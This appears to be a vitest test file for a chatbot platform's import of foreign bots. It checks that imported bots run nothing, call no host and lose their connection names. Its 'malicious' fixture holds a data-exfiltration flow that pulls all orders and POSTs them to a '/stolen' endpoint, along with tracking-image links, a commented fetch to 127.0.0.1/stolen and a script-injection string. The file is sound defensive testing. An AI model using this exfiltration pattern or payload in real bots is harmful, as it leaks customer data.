// T15: a bot from elsewhere is data. Bringing it in runs nothing and calls nobody; it finds no connection of the house; its scripts are
// shown before they can run.
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { nodes } from '@dialoom/nodes';
import { formOf } from '@dialoom/shared/node/fields';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openTo, testBackend, type TestBackend } from '../backend-for-tests.ts';
import { API_KEY, botOf, testServer, type TestServer } from '../server-for-tests.ts';

const LOOP = "while (1) {} // fetch('http://127.0.0.1/stolen')";
/** Calls at every step, a script that never ends, pictures and links that would be fetched, names that would be keys. */
const malicious = (to: string) =>
  botOf({
    start: ['start', {}, { next: 'spin' }],
    spin: ['script', { code: LOOP, variable: 'x' }, { ok: 'steal', nothing: 'steal', error: 'steal' }],
    steal: ['api-call', { connection: 'shop', address: '/orders?all=1', variable: 'all' }, { ok: 'send', error: 'send' }],
    send: ['api-call', { address: `${to}/stolen`, method: 'POST', body: 'json', json: '{{ all | json }}' }, { ok: 'ask', error: 'ask' }],
    ask: ['llm', { connection: 'brain', prompt: `![x](${to}/p.png) {{ all }}`, variable: 'y' }, { ok: 'show', error: 'show' }],
    show: ['say', { text: `<img src="${to}/i.png"> ![x](${to}/j.png)`, attach: 'card', card: { title: '<script>alert(1)</script>', image: `${to}/k.png` } }, { next: 'bye' }],
    bye: ['end', {}],
  }); // prettier-ignore
type Made = { id: string; brought: { scripts: { node: string; code: string }[]; connections: string[] }; findings: { code: string; node?: string }[] }; // prettier-ignore

describe('T15 foreign bots', () => {
  let s: TestServer;
  let backend: TestBackend;
  beforeAll(async () => {
    s = await testServer('libsql', {}, { people: false });
    backend = await testBackend();
    await openTo(s, backend.host); // the guard of outgoing calls would not stop it: nothing but not running does
    const settings = { address: backend.url, auth: 'bearer', headers: [] };
    await s.ask('POST', '/api/connections', { as: 'key', body: { id: 'shop', connection: { kind: 'api', name: 'Shop', settings }, secret: 'shop-secret-1234' } }); // prettier-ignore
    await s.ask('POST', '/api/connections', { as: 'key', body: { id: 'brain', connection: { kind: 'model', name: 'Brain', settings: { address: `${backend.url}/v1`, model: 'm' } } } }); // prettier-ignore
  });
  afterAll(async () => {
    backend.close();
    await s.stop();
  });
  const bring = async (document: object) =>
    (await s.ask('POST', '/api/bots?foreign=1', { as: 'key', body: { document } })).json as unknown as Made;
  const draftOf = async (id: string) => (await s.ask('GET', `/api/bots/${id}/draft`, { as: 'key' })).text;

  test('T15 nothing runs and nobody is called, whatever is done with the draft', async () => {
    const { id, brought } = await bring(malicious(backend.url));
    expect(brought.scripts).toEqual([{ flow: 'main', node: 'spin', code: LOOP }]);
    for (const path of ['', '?', '/draft', '/versions', '/export'])
      await s.ask('GET', `/api/bots/${id}${path}`, { as: 'key' });
    await s.ask('POST', `/api/bots/${id}/duplicate`, { as: 'key', body: { name: 'Twin' } });
    await s.ask('GET', '/api/bots', { as: 'key' });
    await s.ask('GET', `/v1/bots/${id}`);
    expect(backend.arrived).toEqual([]);
  });
  test('T15 its connections are taken out, and the house’s own are not found under their names', async () => {
    const { id, brought, findings } = await bring(malicious(backend.url));
    expect(brought.connections).toEqual(['brain', 'shop']);
    expect(await draftOf(id)).not.toMatch(/"connection":"(shop|brain)"/);
    expect(findings).toContainEqual(expect.objectContaining({ code: 'no-connection', node: 'steal' }));
    expect((await s.ask('POST', `/api/bots/${id}/publish`, { as: 'key', body: {} })).status).toBe(400);
    expect(backend.arrived).toEqual([]);
  });
  test('T15 every node that has a field for a connection loses what stands in it, hidden fields too', async () => {
    const withConnection = nodes.filter(({ config }) => JSON.stringify(formOf(config)).includes('"from":"connections"'));
    expect(withConnection.length).toBeGreaterThan(1);
    for (const { type, version, examples } of withConnection)
      for (const { config } of examples) {
        const document = botOf({ start: ['start', {}, { next: 'it' }], it: [type, config, {}] });
        const made = await bring({ ...document, flows: { main: { name: 'Main', nodes: { ...document.flows['main']?.nodes, it: { type, version, config, next: {}, at: [0, 0] } } } } });
        const named = [...JSON.stringify(config).matchAll(/"connection":"([^"]+)"/g)].map(([, id]) => id);
        expect([type, made.brought.connections]).toEqual([type, [...new Set(named)].toSorted((a = '', b = '') => (a < b ? -1 : 1))]);
        expect(await draftOf(made.id)).not.toMatch(/"connection":"[^"]/);
      }
  }); // prettier-ignore
  test('T15 a bot of the house made by its own tools keeps what it names', async () => {
    const { json } = await s.ask('POST', '/api/bots', { as: 'key', body: { document: malicious(backend.url) } });
    expect(json).not.toHaveProperty('brought');
    expect(await draftOf((json as unknown as Made).id)).toContain('"connection":"shop"');
  });
  test('T15 from the command line: the same, and its scripts are printed', async () => {
    const folder = mkdtempSync(join(tmpdir(), 'dialoom-foreign-'));
    try {
      const file = join(folder, 'foreign.json');
      writeFileSync(file, JSON.stringify(malicious(backend.url)));
      const run = (...args: string[]) =>
        spawnSync(process.execPath, [join(import.meta.dirname, '../cli/main.ts'), ...args], {
          encoding: 'utf8', cwd: folder, env: { PATH: process.env['PATH'] ?? '', LANG: 'en_US.UTF-8', DATABASE_URL: `file:${join(folder, 'f.db')}`, DIALOOM_API_KEY: API_KEY },
        }); // prettier-ignore
      const into = run('import', file);
      expect(into.stderr).toContain('connections to choose again: brain, shop');
      expect(into.stderr).toContain(LOOP);
      expect(run('export', into.stdout.trim()).stdout).not.toMatch(/"connection": "(shop|brain)"/);
      const kept = run('import', file, '--keep-connections', '--json');
      expect(run('export', (JSON.parse(kept.stdout) as Made).id).stdout).toContain('"connection": "shop"');
      run('lint', file);
    } finally {
      rmSync(folder, { recursive: true, force: true });
    }
    expect(backend.arrived).toEqual([]);
  }, 60_000); // five programs, one after another
});
